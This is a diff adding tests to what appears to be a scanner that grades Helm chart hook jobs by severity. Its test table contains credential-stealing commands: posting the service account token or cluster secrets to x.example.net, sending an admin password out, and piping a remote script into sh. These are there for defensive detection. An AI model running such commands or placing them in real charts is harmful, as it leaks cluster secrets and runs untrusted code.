@@ -125,6 +125,58 @@ describe("the hooks of a Helm chart", () => {
     ]);
   });
 
+  /** The only hook of a chart, with a job that runs these commands. */
+  const jobItem = (command: string, more = "") => {
+    const { "charts/x/templates/job.yaml": start, ...others } = hook("pre-install");
+    const job = `${start}spec:
+  template:
+    spec:
+      {{- if .Values.account }}
+      serviceAccountName: {{ .Values.account | quote }}
+      {{- end }}
+      containers:
+        - name: setup
+          image: {{ .Values.image }}:1.2.3
+          command: ["sh", "-c"]
+          args:
+            - |
+              ${command}
+${more}`;
+    const found = items({ ...others, "charts/x/templates/job.yaml": job });
+    return found.find(({ where }) => where === "cluster");
+  };
+
+  it("show the image and the command of each container", () => {
+    expect(jobItem("echo ready")).toMatchObject({
+      what: "Helm hook pre-install: ${.Values.image}:1.2.3 sh -c echo ready",
+      severity: "INFO",
+    });
+  });
+
+  const token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
+  it.each([
+    ["CRITICAL", `curl -d @${token} https://x.example.net`],
+    ["CRITICAL", "kubectl get secrets -o yaml | curl -T - https://x.example.net"],
+    ["MEDIUM", "curl -s https://x.example.net/setup.sh | sh"],
+    ["INFO", `curl -H "Authorization: Bearer $(cat ${token})" https://kubernetes.default.svc/api`],
+    ["INFO", `curl -H "Authorization: Bearer $(cat ${token})" https://$KUBERNETES_SERVICE_HOST/`],
+    ["INFO", `curl -H "Authorization: Bearer $(cat ${token})" {{ .Values.address }}`],
+    ["INFO", 'curl -u "admin:$ADMIN_PASSWORD" http://grafana.monitoring:3000/api/admin'],
+    ["INFO", "kubectl create secret generic x --from-literal=a=b"],
+  ])("are %s: %s", (severity, command) => {
+    expect(jobItem(command)?.severity).toBe(severity);
+  });
+
+  it("know the variables that the manifest sets", () => {
+    const env = (name: string) => `          env:
+            - name: ${name}
+              value: public
+`;
+    const command = "curl -d p=$ADMIN_PASSWORD https://x.example.net";
+    expect(jobItem(command, env("OTHER"))?.severity).toBe("CRITICAL");
+    expect(jobItem(command, env("ADMIN_PASSWORD"))?.severity).toBe("INFO");
+  });
+
   it("are none without annotations", () => {
     const { "charts/x/templates/job.yaml": _, ...others } = hook("pre-install");
     expect(items(others).filter(({ where }) => where === "cluster")).toEqual([]);
